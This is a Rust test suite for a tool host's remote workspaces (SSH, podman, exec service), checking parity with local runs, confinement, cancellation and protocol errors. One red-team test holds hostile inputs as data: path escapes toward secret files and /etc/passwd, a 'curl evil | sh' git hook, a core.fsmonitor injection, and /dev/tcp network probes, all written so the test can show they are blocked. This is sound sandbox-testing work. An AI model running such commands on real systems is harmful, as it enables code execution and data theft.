//! Remote workspaces (`--workspace-exec`, `toolhost workspace serve`): the
//! recorded Pi cases give the same results over the workspace protocol as
//! here; what the service does not serve is never done on this machine
//! instead; a service that goes away or speaks another protocol is a
//! clear error.

use crate::cases::{PI_0_85, PI_1_6, Place, run_recorded_in};
use crate::support::*;
use serde_json::{Value, json};
use std::time::{Duration, Instant};

/// `--workspace-exec`'s command serving `dir` with this toolhost.
fn serving(dir: &str) -> String {
    format!("'{}' workspace serve '{dir}'", toolhost_bin().display())
}

/// The recorded cases of each built-in: (tool, how many) in each recording.
const CASES_0_85: &[(&str, usize)] = &[
    ("read", 11),
    ("write", 3),
    ("edit", 12),
    ("bash", 7),
    ("grep", 8),
    ("find", 4),
    ("ls", 3),
];
const CASES_1_6: &[(&str, usize)] = &[
    ("read", 23),
    ("write", 7),
    ("edit", 22),
    ("bash", 21),
    ("grep", 22),
    ("find", 19),
    ("ls", 6),
];

/// Every recorded case of both recordings with the workspace at `place`.
fn every_case(place: Place) {
    for (recording, tools) in [(&PI_0_85, CASES_0_85), (&PI_1_6, CASES_1_6)] {
        for &(tool, count) in tools {
            run_recorded_in(recording, tool, count, place);
        }
    }
}

/// `--workspace URL` with this very toolhost named for the other side (which
/// sees this machine's files): the self-copy has tests of its own.
fn at(url: String) -> Vec<String> {
    let bin = toolhost_bin().display().to_string();
    vec!["--workspace".into(), url, "--remote-toolhost".into(), bin]
}

#[test]
fn the_recorded_cases_give_the_same_results_over_openssh() {
    let sshd = Sshd::start();
    let command = sshd.ssh_command();
    let env = [("TOOLHOST_SSH_COMMAND", command.as_str())];
    every_case(Place::Named(&|path| at(sshd.url(path)), &env));
}

#[test]
fn the_recorded_cases_give_the_same_results_in_a_podman_container() {
    // The container sees the temporary directory, where every case's
    // workspace is made, and this toolhost, at their paths here.
    let temp = std::env::temp_dir().canonicalize().unwrap();
    let bin = toolhost_bin().parent().unwrap().canonicalize().unwrap();
    let container = Container::sharing(&[&temp, &bin]);
    let env = [("TOOLHOST_CONTAINER_COMMAND", Container::PODMAN)];
    let url = |path: &str| at(format!("container://{}{path}", container.name));
    every_case(Place::Named(&url, &env));
}

/// Every recorded case of each built-in, over a remote workspace: the
/// same texts, details and files afterwards as the local runs.
mod pi_cases {
    use super::*;

    macro_rules! remote {
        ($recording:ident: $($tool:ident $cases:literal),* $(,)?) => {$(
            #[test]
            fn $tool() {
                run_recorded_in(&$recording, stringify!($tool), $cases, Place::Remote);
            }
        )*};
    }

    mod pi_0_85 {
        use super::*;
        remote!(PI_0_85: read 11, write 3, edit 12, bash 7, grep 8, find 4, ls 3);
    }

    mod pi_1_6 {
        use super::*;
        remote!(PI_1_6: read 23, write 7, edit 22, bash 21, grep 22, find 19, ls 6);
    }
}

#[test]
fn nothing_of_a_remote_workspace_is_read_or_run_on_this_machine() {
    // `here` holds a file at the path where the service's workspace
    // would hold it; the service serves `there`. Every Operation reaches
    // `there`, and nothing outside it, on either side.
    let (here, there) = (Workspace::new(), Workspace::new());
    there.write("notes.txt", "served\n");
    here.write("local-only.txt", "not served\n");
    let exec = serving(there.str());
    let call = |tool: &str, args: Value| {
        let args = args.to_string();
        let out = toolhost(
            &here,
            &["--workspace-exec", &exec, "call", tool, &args, "--json"],
            None,
        );
        json_out(&out)
    };
    let read = call("read", json!({"path": "notes.txt"}));
    assert_eq!(read["content"][0]["text"], "served\n", "{read}");
    let local = here.path.join("local-only.txt");
    let refused = call("read", json!({"path": local.to_str().unwrap()}));
    assert_eq!(refused["isError"], true, "{refused}");
    let text = refused["content"][0]["text"].as_str().unwrap();
    assert!(!text.contains("not served"), "{text}");

    let wrote = call("write", json!({"path": "new.txt", "content": "made there"}));
    assert_eq!(wrote["isError"], false, "{wrote}");
    assert_eq!(there.read("new.txt"), "made there");
    assert!(!here.path.join("new.txt").exists());

    // bash runs there: in the served directory, confined by the service.
    let ran = call(
        "bash",
        json!({"command": "pwd; cat notes.txt; touch made-by-bash"}),
    );
    assert_eq!(ran["isError"], false, "{ran}");
    let text = ran["content"][0]["text"].as_str().unwrap();
    assert!(
        text.starts_with(&format!("{}\nserved\n", there.str())),
        "{text}"
    );
    assert!(there.path.join("made-by-bash").exists());
    assert!(!here.path.join("made-by-bash").exists());

    let found = call("grep", json!({"pattern": "served"}));
    assert_eq!(
        found["content"][0]["text"], "notes.txt:1: served",
        "{found}"
    );
}

#[test]
fn a_service_that_goes_away_fails_the_call_in_flight_and_says_so() {
    let ws = Workspace::new();
    let pid_file = ws.path.join("service.pid");
    // The service writes its pid, then becomes the service.
    let exec = format!(
        "sh -c 'echo $$ > {}; exec {}'",
        pid_file.display(),
        serving(ws.str()).replace('\'', "")
    );
    let started = Instant::now();
    let mut child = spawn_piped(
        ws.cli().args([
            "--workspace-exec",
            &exec,
            "call",
            "bash",
            r#"{"command": "echo started; sleep 60"}"#,
        ]),
        std::process::Stdio::piped(),
    );
    let pid = loop {
        if let Ok(text) = std::fs::read_to_string(&pid_file)
            && let Ok(pid) = text.trim().parse::<i32>()
        {
            break pid;
        }
        assert!(started.elapsed() < Duration::from_secs(30), "no service");
        std::thread::sleep(Duration::from_millis(20));
    };
    // Once the command runs there, the service is killed.
    std::thread::sleep(Duration::from_millis(1500));
    assert!(
        std::process::Command::new("kill")
            .args(["-KILL", &pid.to_string()])
            .status()
            .unwrap()
            .success()
    );
    drop(child.stdin.take());
    let out = child.wait_with_output().unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "the call waited for its command instead of failing"
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("the remote workspace") && text.contains("is gone"),
        "stdout: {text}\nstderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(1), "an error result");
}

#[test]
fn a_service_of_another_protocol_is_refused_naming_both_releases() {
    // A stand-in service: it reads toolhost's hello and answers with a
    // protocol this toolhost does not speak.
    let ws = Workspace::new();
    let script = ws.write(
        "old-service.py",
        r#"
import json, struct, sys
def frame(message):
    header = json.dumps(message).encode()
    return struct.pack(">II", 4 + len(header), len(header)) + header
length = struct.unpack(">I", sys.stdin.buffer.read(4))[0]
sys.stdin.buffer.read(length)
sys.stdout.buffer.write(frame({"t": "hello", "protocol": 99, "release": "toolhost 9.9.9",
                               "root": "/srv"}))
sys.stdout.buffer.flush()
sys.stdin.buffer.read()
"#,
    );
    let exec = format!("python3 {}", script.display());
    let out = toolhost(&ws, &["--workspace-exec", &exec, "list"], None);
    assert_eq!(out.status.code(), Some(2));
    assert_has(
        &out.stderr,
        "speaks the workspace protocol 99 (toolhost 9.9.9), and this toolhost speaks 1 (toolhost",
    );
}

#[test]
fn a_service_that_cannot_confine_refuses_to_serve_and_toolhost_says_why() {
    // The service runs where bubblewrap cannot be found (each place it
    // looks for it hidden by an empty file): it has no jail, refuses, and
    // toolhost shows what it said.
    let ws = Workspace::new();
    let mut hidden = std::collections::BTreeSet::new();
    for place in ["/usr/bin/bwrap", "/bin/bwrap", "/usr/local/bin/bwrap"] {
        if let Ok(real) = std::fs::canonicalize(place) {
            hidden.insert(real);
        }
    }
    let hide: String = hidden
        .iter()
        .map(|p| format!("--ro-bind /dev/null {} ", p.display()))
        .collect();
    let exec = format!("bwrap --dev-bind / / {hide}{}", serving(ws.str()));
    let out = toolhost(&ws, &["--workspace-exec", &exec, "list"], None);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("ended before it said hello")
            && err.contains("requires the process jail")
            && err.contains("--allow-unconfined"),
        "{err}"
    );
    // Told to, it serves: its commands then run under Landlock and seccomp.
    let exec = format!("{exec} --allow-unconfined");
    let out = toolhost(
        &ws,
        &[
            "--workspace-exec",
            &exec,
            "call",
            "bash",
            r#"{"command": "echo unjailed"}"#,
        ],
        None,
    );
    // The result text, then the line end `call` prints.
    assert_eq!(stdout_ok(out), "unjailed\n\n");
}

#[test]
fn over_openssh_toolhost_copies_itself_once_by_digest_and_serves_there() {
    let sshd = Sshd::start();
    let ws = Workspace::new();
    ws.write("notes.txt", "over ssh\n");
    let url = sshd.url(ws.str());
    let env = [("TOOLHOST_SSH_COMMAND", sshd.ssh_command())];
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let call = |tool: &str, args: &str| {
        toolhost_with_env(&ws, &["--workspace", &url, "call", tool, args], None, &env)
    };
    let read = call("read", r#"{"path": "notes.txt"}"#);
    assert_eq!(stdout_ok(read), "over ssh\n\n");
    // The copy is in the other side's per-user cache, named by its digest.
    let copies: Vec<_> = std::fs::read_dir(sshd.cache().join("toolhost/bin"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(copies.len(), 1, "{copies:?}");
    assert!(copies[0].starts_with("toolhost-"), "{copies:?}");
    let copy = sshd.cache().join("toolhost/bin").join(&copies[0]);
    let modified = std::fs::metadata(&copy).unwrap().modified().unwrap();
    // The next connection finds it; bash runs there, in the workspace,
    // with nothing of the SSH session's (its agent, its connection).
    let ran = call("bash", r#"{"command": "pwd; env"}"#);
    let text = stdout_ok(ran);
    assert!(text.starts_with(&format!("{}\n", ws.str())), "{text}");
    assert!(!text.contains("SSH_"), "{text}");
    assert_eq!(
        std::fs::metadata(&copy).unwrap().modified().unwrap(),
        modified
    );
    // A copy that differs from this toolhost is replaced, never run.
    std::fs::remove_file(&copy).unwrap();
    std::fs::write(&copy, "#!/bin/sh\necho tampered\n").unwrap();
    std::fs::set_permissions(&copy, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    let read = call("read", r#"{"path": "notes.txt"}"#);
    assert_eq!(stdout_ok(read), "over ssh\n\n");
    assert_ne!(std::fs::read(&copy).unwrap(), b"#!/bin/sh\necho tampered\n");

    // --remote-toolhost names one there instead; a wrong one is said.
    let out = toolhost_with_env(
        &ws,
        &[
            "--workspace",
            &url,
            "--remote-toolhost",
            "/nonexistent/toolhost",
            "list",
        ],
        None,
        &env,
    );
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(&url) && err.contains("/nonexistent/toolhost"),
        "{err}"
    );
}

#[test]
fn in_a_podman_container_toolhost_copies_itself_in_and_serves_there() {
    let ws = Workspace::new();
    ws.write("notes.txt", "in the container\n");
    let container = Container::start(&ws.path);
    let url = format!("container://{}/work", container.name);
    let env = [("TOOLHOST_CONTAINER_COMMAND", Container::PODMAN)];
    let call = |tool: &str, args: &str| {
        toolhost_with_env(&ws, &["--workspace", &url, "call", tool, args], None, &env)
    };
    let read = call("read", r#"{"path": "notes.txt"}"#);
    assert_eq!(stdout_ok(read), "in the container\n\n");
    // bash runs in the container (its own root, /work the workspace),
    // jailed there: the system it sees is read-only.
    let ran = call(
        "bash",
        r#"{"command": "pwd; ls / | tr '\\n' ' '; touch /usr/x 2>&1 | grep -c Read-only"}"#,
    );
    let text = stdout_ok(ran);
    assert!(text.starts_with("/work\n"), "{text}");
    assert!(text.contains("work"), "{text}");
    assert!(text.ends_with("1\n\n"), "{text}");
    // The copy is in the container's per-user cache, by digest.
    let cache = container.root().join("root/.cache/toolhost/bin");
    let copies: Vec<_> = std::fs::read_dir(&cache).unwrap().collect();
    assert_eq!(copies.len(), 1, "{}", cache.display());
}

#[test]
fn doctor_reports_the_confinement_on_the_other_side() {
    let ws = Workspace::new();
    let exec = serving(ws.str());
    let out = toolhost(&ws, &["--workspace-exec", &exec, "doctor", "--json"], None);
    let report = json_out(&out);
    assert_eq!(
        report["remote"]["workspace"],
        format!("`{}`", exec.replace('\'', ""))
    );
    assert_eq!(report["remote"]["root"], ws.str());
    let names = strings_at(&report["remote"]["layers"], "/name");
    assert_eq!(names, ["jail", "Landlock", "seccomp", "limits", "network"]);
    assert_eq!(report["remote"]["layers"][0]["on"], true, "{report}");
    let text = stdout_ok(toolhost(&ws, &["--workspace-exec", &exec, "doctor"], None));
    assert!(
        text.contains("confined on the other side of `")
            && text.contains("where the workspace's commands run"),
        "{text}"
    );
}

#[test]
fn cancelling_a_call_stops_its_processes_on_the_other_side() {
    let ws = Workspace::new();
    let exec = serving(ws.str());
    // A sleeper in the background that only its group's stop can end, marked
    // so that it is found among this machine's processes.
    let marker = format!(
        "300.{}{}",
        std::process::id(),
        ws.path.file_name().unwrap().len()
    );
    let command = format!("sleep {marker} & echo started > started; wait");
    let batch = batch_file(&ws, &[("c1", "bash", json!({ "command": command }))]);
    let batch = batch.to_str().unwrap();
    let child = spawn_piped(
        ws.cli()
            .args(["--workspace-exec", &exec, "run", batch, "--json"]),
        std::process::Stdio::piped(),
    );
    let started = Instant::now();
    while !ws.path.join("started").exists() {
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "the command never started"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let running = |marker: &str| {
        std::process::Command::new("pgrep")
            .args(["-f", &format!("sleep {marker}")])
            .output()
            .unwrap()
            .status
            .success()
    };
    assert!(running(&marker), "the sleeper runs on the other side");
    // Ctrl-C: toolhost cancels the call, which stops the group there.
    assert!(
        std::process::Command::new("kill")
            .args(["-INT", &child.id().to_string()])
            .status()
            .unwrap()
            .success()
    );
    let out = child.wait_with_output().unwrap();
    let lines: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let end = lines.last().expect("a turn_end line");
    let text = end["toolResults"][0]["content"][0]["text"]
        .as_str()
        .unwrap();
    assert!(text.contains("aborted"), "{end}");
    let stopped = Instant::now();
    while running(&marker) {
        assert!(
            stopped.elapsed() < Duration::from_secs(10),
            "the sleeper outlived its cancelled call"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn serve_runs_a_parallel_batch_in_a_remote_workspace() {
    // JSON-RPC's front, over the same global option: a batch of reads and a
    // bash call, all answered from the other side.
    let (here, there) = (Workspace::new(), Workspace::new());
    for i in 0..8 {
        there.write(&format!("f{i}.txt"), format!("file {i}\n"));
    }
    let exec = serving(there.str());
    let mut server = crate::serve::Server::start(&here, &["--workspace-exec", &exec]);
    let mut content = Vec::new();
    for i in 0..8 {
        content.push(
            json!({"type": "toolCall", "id": format!("r{i}"), "name": "read",
                            "arguments": {"path": format!("f{i}.txt")}}),
        );
    }
    content.push(json!({"type": "toolCall", "id": "b", "name": "bash",
                        "arguments": {"command": "ls | wc -l"}}));
    let message = json!({"role": "assistant", "content": content, "stopReason": "toolUse"});
    server.request(json!(1), "batch/run", json!({ "message": message }));
    let reply = loop {
        let line = server.next();
        if line["method"] != "batch/event" {
            break line;
        }
    };
    let results = reply["result"]["toolResults"].as_array().unwrap();
    for (i, result) in results.iter().take(8).enumerate() {
        assert_eq!(
            result["content"][0]["text"],
            format!("file {i}\n"),
            "{result}"
        );
    }
    assert_eq!(results[8]["content"][0]["text"], "8\n", "{}", results[8]);
}

#[test]
fn session_processes_run_on_the_other_side_across_calls_and_end_with_the_session() {
    // A REPL in a terminal and a reader on a pipe, started in one call and
    // written and read in the next ones, all on the service's machine.
    let (here, there) = (Workspace::new(), Workspace::new());
    let exec = serving(there.str());
    let mut s = crate::session_processes::server_with(&here, &["--workspace-exec", &exec]);
    let cat = s.ok(
        "process_start",
        json!({"command": "pwd; while read l; do echo got:$l; done", "wait": 0}),
    );
    assert!(cat.text.contains("Process 1 is running"), "{}", cat.text);
    s.read_until(1, there.str());
    s.write(1, "one\n");
    s.read_until(1, "got:one");
    let tty = s.ok(
        "process_start",
        json!({"command": "python3 -q -i", "tty": true, "wait": 0}),
    );
    assert!(tty.text.contains("Process 2 is running"), "{}", tty.text);
    s.read_until(2, ">>> ");
    s.write(
        2,
        "import sys, os; print(6 * 7, sys.stdin.isatty(), os.getcwd())\r",
    );
    s.read_until(2, &format!("42 True {}", there.str()));
    let stopped = s.ok("process_stop", json!({"id": 1}));
    assert!(stopped.text.contains("Process 1"), "{}", stopped.text);
    s.server.finish();
}

/// The red team's checks, on the far side: reads and writes that leave the
/// workspace by any route, the protected paths, processes that try to
/// outlive their call, and the network when toolhost denies it. The
/// service enforces each there; the texts are the local ones.
#[test]
fn hostile_the_far_side_keeps_escapes_protected_paths_survivors_and_the_network_in() {
    let (here, there, outside) = (Workspace::new(), Workspace::new(), Workspace::new());
    let secret = outside.write("secret.txt", "top secret");
    there.write_files(&[
        ("inside.txt", "fine"),
        ("toolhost.toml", "# trusted grants\n"),
        (".git/config", "[core]\n"),
        (".git/hooks/pre-commit", "#!/bin/sh\n"),
    ]);
    there.symlink("link-out", &secret);
    let name = outside.name();
    std::fs::create_dir(there.path.join("dir")).unwrap();
    there.symlink("dir/out", "../..");
    let exec = serving(there.str());
    let call_with = |flags: &[&str], tool: &str, args: Value| {
        let args = args.to_string();
        let mut command = vec!["--workspace-exec", &exec];
        command.extend(flags);
        command.extend(["call", tool, &args, "--json"]);
        let result = json_out(&toolhost(&here, &command, None));
        let blocks = result["content"].as_array().unwrap().iter();
        let text: Vec<&str> = blocks.map(|b| b["text"].as_str().unwrap()).collect();
        (text.join("\n"), result["isError"] == true)
    };
    let call = |tool: &str, args: Value| call_with(&[], tool, args);

    // Escapes: every route out of the workspace is refused there, with the
    // local text, and nothing of the file outside comes back.
    let dotdot = format!("../{name}/secret.txt");
    let through_dir = format!("dir/out/{name}/secret.txt");
    let absolute = secret.to_str().unwrap().to_string();
    for raw in [&dotdot, &absolute, "link-out", &through_dir, "/etc/passwd"] {
        let (text, is_error) = call("read", json!({ "path": raw }));
        assert!(is_error, "{raw} must be refused: {text}");
        assert_eq!(text, format!("Path is outside the workspace: {raw}"));
    }
    let (text, is_error) = call("write", json!({"path": dotdot, "content": "planted"}));
    assert!(is_error, "{text}");
    assert_eq!(outside.read("secret.txt"), "top secret");
    let out_of_bash = format!(
        "echo planted > {} && echo written",
        outside.path.join("bash.txt").display()
    );
    // The jail shows the command this machine's files read-only, and its
    // own temp directory in place of /tmp.
    let (text, is_error) = call("bash", json!({ "command": out_of_bash }));
    assert!(is_error, "{text}");
    assert!(
        text.contains("Read-only file system") || text.contains("No such file or directory"),
        "{text}"
    );
    assert!(!outside.path.join("bash.txt").exists());

    // The protected paths: read-only to bash there, refused to write.
    for attempt in [
        "echo '[extensions.x]' >> toolhost.toml",
        "echo '[core] fsmonitor = evil' >> .git/config",
        "echo 'curl evil | sh' > .git/hooks/post-checkout",
    ] {
        let (text, is_error) = call("bash", json!({ "command": attempt }));
        assert!(is_error, "{attempt}: {text}");
        assert!(text.contains("Read-only file system"), "{attempt}: {text}");
    }
    let (text, is_error) = call(
        "write",
        json!({"path": ".git/config", "content": "[core] x"}),
    );
    assert!(is_error, "{text}");
    assert_eq!(there.read("toolhost.toml"), "# trusted grants\n");
    assert_eq!(there.read(".git/config"), "[core]\n");
    assert!(!there.path.join(".git/hooks/post-checkout").exists());

    // A repository the command makes is not yet read-only to it: the guard
    // there puts back what would make git run code, and the model is told
    // here, as for a local workspace.
    let (text, _) = call(
        "bash",
        json!({"command": "git init -q fresh && git -C fresh config core.fsmonitor evil && echo made"}),
    );
    assert!(text.starts_with("made\n"), "{text}");
    assert!(text.contains("core.fsmonitor"), "{text}");
    assert!(!there.read("fresh/.git/config").contains("fsmonitor"));

    // Survivors: whatever a command starts to outlive its call is gone
    // when the call ends, as it is here.
    let m = marker();
    let (text, _) = call(
        "bash",
        json!({"command": format!("{}; echo done", escapes(&m))}),
    );
    assert_eq!(text, "done\n");
    assert!(all_gone(&m), "a process outlived its call on the far side");

    // The network: denied here (`--no-network`), denied there.
    let listener = Listener::new();
    let connect = json!({"command": format!(
        "echo hi > /dev/tcp/127.0.0.1/{} && echo connected",
        listener.port()
    )});
    let (text, is_error) = call_with(&["--no-network"], "bash", connect.clone());
    assert!(is_error && text.contains("Permission denied"), "{text}");
    assert!(!listener.was_reached(), "the connection went through");
    let (text, _) = call("bash", connect);
    assert_eq!(text, "connected\n");
    assert!(listener.was_reached());
}

/// The lines of the book's "Work in a remote workspace" example
/// (docs/remote.md), as written there.
fn book_remote_lines() -> Vec<String> {
    let page = std::fs::read_to_string(repo_root().join("docs/remote.md")).unwrap();
    let block = page.split_once("```sh\n").expect("the page's example").1;
    let block = block.split_once("```").unwrap().0;
    block.lines().map(str::to_string).collect()
}

/// The book's example runs as written: `build.example` is an sshd on this
/// machine whose sessions see `/srv/app` and an installed `toolhost` (a
/// mount namespace of its own), named in root's `~/.ssh/config` (another,
/// for the commands); `devbox` is a podman container.
#[test]
fn the_book_remote_example_runs_as_written() {
    let app = Workspace::new();
    app.write("Makefile", "test:\n\t@echo all tests pass\n");
    let boxed = Workspace::new();
    boxed.write("notes.txt", "TODO: more tests\n");
    let bin = toolhost_bin();
    let sshd = Sshd::start_in(Some(&format!(
        "mount -t tmpfs none /srv && mkdir /srv/app && mount --bind {} /srv/app && \
         mount -t tmpfs none /usr/local/bin && touch /usr/local/bin/toolhost && \
         mount --bind {} /usr/local/bin/toolhost",
        app.str(),
        bin.display()
    )));
    let _devbox = Container::named("devbox", &boxed.path);
    let client = tempfile::tempdir().unwrap();
    let config = client.path().join("config");
    std::fs::write(&config, sshd.config_for("build.example")).unwrap();
    let path = format!(
        "{}:{}",
        bin.parent().unwrap().display(),
        std::env::var("PATH").unwrap()
    );
    let run = |line: &str| {
        let script = format!(
            "mkdir -p /root/.ssh && mount -t tmpfs none /root/.ssh && \
             cp {} /root/.ssh/config && {line}",
            config.display()
        );
        let out = std::process::Command::new("unshare")
            .args(["--mount", "--propagation", "private", "sh", "-c", &script])
            .current_dir(client.path())
            .env("PATH", &path)
            .env("TOOLHOST_CONTAINER_COMMAND", Container::PODMAN)
            .env("XDG_CONFIG_HOME", client.path())
            .output()
            .unwrap();
        stdout_ok(out)
    };
    let lines = book_remote_lines();
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert_eq!(run(&lines[0]), "all tests pass\n\n");
    assert_eq!(run(&lines[1]), "notes.txt:1: TODO: more tests\n");
    let listed = run(&lines[2]);
    assert!(listed.contains("Makefile"), "{listed}");
}
